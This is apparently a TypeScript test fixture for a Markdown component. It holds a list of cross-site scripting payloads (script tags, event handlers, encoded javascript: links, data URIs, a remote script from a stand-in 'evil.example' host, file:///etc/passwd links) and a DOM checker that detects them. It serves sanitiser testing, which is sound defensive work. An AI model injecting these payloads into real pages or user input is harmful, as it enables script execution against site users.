/**
 * Hostile Markdown/HTML inputs for the Markdown component, and a DOM checker. Plain data and DOM code
 * only, so a browser test (Playwright) can import both and check the real rendering.
 */

export interface XssCase {
  name: string;
  input: string;
}

const tab = '\t';
const newline = '\n';
const soh = '\u0001';

export const xssCorpus: readonly XssCase[] = [
  { name: 'script tag', input: '<script>alert(1)</script>' },
  { name: 'uppercase script with src', input: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'img onerror', input: '<img src=x onerror=alert(1)>' },
  { name: 'img ONERROR uppercase', input: '<img src="x" ONERROR="alert(1)">' },
  { name: 'svg onload', input: '<svg onload=alert(1)>' },
  { name: 'script inside svg', input: '<svg><script>alert(1)</script></svg>' },
  { name: 'body onload', input: '<body onload=alert(1)>' },
  { name: 'iframe javascript src', input: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', input: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'markdown link javascript', input: '[x](javascript:alert(1))' },
  { name: 'markdown link mixed case', input: '[x](JaVaScRiPt:alert(1))' },
  { name: 'markdown link angle brackets with space', input: '[x](<java script:alert(1)>)' },
  { name: 'markdown link entity colon', input: '[x](javascript&#58;alert(1))' },
  { name: 'markdown link entity letter', input: '[x](&#x6A;avascript:alert(1))' },
  { name: 'markdown link percent-encoded', input: '[x](javascript%3Aalert(1))' },
  { name: 'html link tab entity', input: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'html link newline entity', input: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
  { name: 'html link literal tab', input: `<a href="jav${tab}ascript:alert(1)">x</a>` },
  { name: 'html link literal newline', input: `<a href="java${newline}script:alert(1)">x</a>` },
  {
    name: 'html link decimal entities',
    input: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  {
    name: 'html link hex entities',
    input: '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  },
  {
    name: 'html link padded entities without semicolons',
    input:
      '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  },
  { name: 'html link leading space', input: '<a href=" javascript:alert(1)">x</a>' },
  { name: 'html link leading control char', input: `<a href="${soh}javascript:alert(1)">x</a>` },
  { name: 'html link &colon; entity', input: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'html link &NewLine; entity', input: '<a href="java&NewLine;script:alert(1)">x</a>' },
  { name: 'html link shift-out entity', input: '<a href="&#14;javascript:alert(1)">x</a>' },
  { name: 'html link space entity', input: '<a href="  &#x20;javascript:alert(1)">x</a>' },
  { name: 'vbscript html link', input: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'vbscript markdown link', input: '[x](VBScript:msgbox(1))' },
  { name: 'script: scheme', input: '<a href="script:alert(1)">x</a>' },
  {
    name: 'data text/html link',
    input: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  { name: 'data text/html markdown link', input: '[x](data:text/html;base64,PHNjcmlwdD4=)' },
  { name: 'data text/html markdown image', input: '![x](data:text/html;base64,PHNjcmlwdD4=)' },
  { name: 'data svg image', input: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'data svg html image', input: '<img src="data:image/svg+xml,<svg onload=alert(1)>">' },
  {
    name: 'data image link (only images may use data)',
    input: '<a href="data:image/png;base64,iVBORw0KGgo=">x</a>',
  },
  {
    name: 'allowed data png with onload',
    input: '<img src="data:image/png;base64,iVBORw0KGgo=" onload="alert(1)">',
  },
  { name: 'file link', input: '<a href="file:///etc/passwd">x</a>' },
  { name: 'file markdown link', input: '[x](file:///C:/Windows/win.ini)' },
  { name: 'style url javascript', input: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: 'style expression', input: '<div style="width: expression(alert(1))">x</div>' },
  { name: 'style tag', input: '<style>body{background:url("javascript:alert(1)")}</style>' },
  { name: 'form action', input: '<form action="javascript:alert(1)"><input type=submit></form>' },
  { name: 'button formaction', input: '<button formaction="javascript:alert(1)">x</button>' },
  { name: 'input autofocus onfocus', input: '<input onfocus=alert(1) autofocus>' },
  { name: 'details ontoggle', input: '<details open ontoggle=alert(1)><summary>s</summary></details>' },
  { name: 'video source onerror', input: '<video><source onerror=alert(1)></video>' },
  { name: 'audio onerror', input: '<audio src=x onerror=alert(1)>' },
  { name: 'object data', input: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed src', input: '<embed src="javascript:alert(1)">' },
  { name: 'img srcset javascript', input: '<img srcset="javascript:alert(1) 1x">' },
  { name: 'img srcset data html', input: '<img src="x.png" srcset="data:text/html,x 2x">' },
  {
    name: 'picture source srcset',
    input: '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
  },
  { name: 'math xlink:href', input: '<math><a xlink:href="javascript:alert(1)">x</a></math>' },
  { name: 'svg a xlink:href', input: '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>' },
  { name: 'svg animate href', input: '<svg><animate attributeName=href values=javascript:alert(1) /></svg>' },
  {
    name: 'svg use data',
    input:
      '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>',
  },
  { name: 'meta refresh', input: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', input: '<base href="javascript:alert(1)//">' },
  { name: 'link stylesheet', input: '<link rel=stylesheet href="javascript:alert(1)">' },
  { name: 'table background', input: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>' },
  { name: 'markdown inside javascript link', input: '<a href="javascript:alert(1)">**bold**</a>' },
  { name: 'html image inside markdown link', input: '[<img src=x onerror=alert(1)>](https://example.com)' },
  { name: 'title attribute breakout', input: '[x](https://example.com "title\\" onmouseover=\\"alert(1)")' },
  { name: 'https link with onclick', input: '<a href="https://example.com" onclick="alert(1)">x</a>' },
  { name: 'paragraph onmouseover', input: '<p onmouseover="alert(1)">hover</p>' },
  {
    name: 'noscript title breakout',
    input: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  { name: 'split script tags', input: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'double angle script', input: '<<script>script>alert(1)<</script>/script>' },
  { name: 'img eval src', input: '<img src=x:alert(alt) onerror=eval(src) alt=1>' },
  { name: 'reference-style javascript link', input: '[x]: javascript:alert(1)\n\n[click][x]' },
  { name: 'autolink with quote breakout', input: '<https://example.com/"onmouseover="alert(1)>' },
  { name: 'autolink javascript', input: '<javascript:alert(1)>' },
  { name: 'isindex action', input: '<isindex action="javascript:alert(1)" type=image>' },
  { name: 'custom element onclick', input: '<x-card onclick=alert(1)>x</x-card>' },
  { name: 'nested blockquote script', input: '> > > <script>alert(1)</script>' },
  { name: 'list item img onerror', input: '- <img src=x onerror=alert(1)>' },
  { name: 'table cell img onerror', input: '| a |\n|---|\n| <img src=x onerror=alert(1)> |' },
  { name: 'img src literal tab javascript', input: `<IMG SRC="jav${tab}ascript:alert('XSS');">` },
  { name: 'textarea breakout', input: '<textarea><script>alert(1)</script></textarea>' },
  { name: 'template content', input: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'markdown image with javascript src', input: '![x](javascript:alert(1))' },
  { name: 'html comment trick', input: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'marquee onstart', input: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'a ping attribute', input: '<a href="https://example.com" ping="javascript:alert(1)">x</a>' },
];

/** Schemes never allowed in a URL attribute; data: is allowed only for the image types below. */
export const forbiddenSchemes = ['script', 'javascript', 'vbscript', 'file', 'data'] as const;
export const allowedDataImage = /^data:image\/(?:gif|png|jpeg|webp)[;,]/;

const urlAttributes = [
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'background',
  'poster',
  'data',
  'cite',
  'longdesc',
  'ping',
  'srcdoc',
  'codebase',
  'dynsrc',
  'lowsrc',
];

const forbiddenElements = [
  'script',
  'iframe',
  'object',
  'embed',
  'style',
  'base',
  'meta',
  'link',
  'form',
  'frame',
  'frameset',
  'applet',
];

/** What a browser would see as the URL: no whitespace or control characters, lower case. */
export function normaliseUrl(value: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are exactly what browsers strip
  return value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
}

function schemeOf(url: string): string | null {
  const match = /^([a-z][a-z0-9+.-]*):/.exec(normaliseUrl(url));
  return match?.[1] ?? null;
}

/** Whether a URL in attribute `attribute` of element `tag` is forbidden. */
export function isForbiddenUrl(url: string, tag: string, attribute: string): boolean {
  const scheme = schemeOf(url);
  if (!scheme) return false;
  if (scheme === 'data')
    return !(tag === 'img' && attribute === 'src' && allowedDataImage.test(normaliseUrl(url)));
  return (forbiddenSchemes as readonly string[]).includes(scheme);
}

/** Problems in a rendered subtree: script-like elements, on* attributes and forbidden URLs. */
export function findXssProblems(root: Element): string[] {
  const problems: string[] = [];
  for (const element of [root, ...root.querySelectorAll('*')]) {
    const tag = element.tagName.toLowerCase();
    if (forbiddenElements.includes(tag)) problems.push(`<${tag}> element`);
    for (const attr of [...element.attributes]) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`${tag}[${name}] event handler`);
      if (name === 'style' && /expression\(|javascript:|url\(/i.test(attr.value))
        problems.push(`${tag}[style] ${attr.value}`);
      if (name === 'srcset' || name === 'imagesrcset') {
        for (const candidate of attr.value.split(',')) {
          const url = candidate.trim().split(/\s+/)[0] ?? '';
          if (isForbiddenUrl(url, tag, 'srcset')) problems.push(`${tag}[${name}] ${attr.value}`);
        }
      }
      if (urlAttributes.includes(name) && isForbiddenUrl(attr.value, tag, name))
        problems.push(`${tag}[${name}] ${attr.value}`);
    }
  }
  return problems;
}
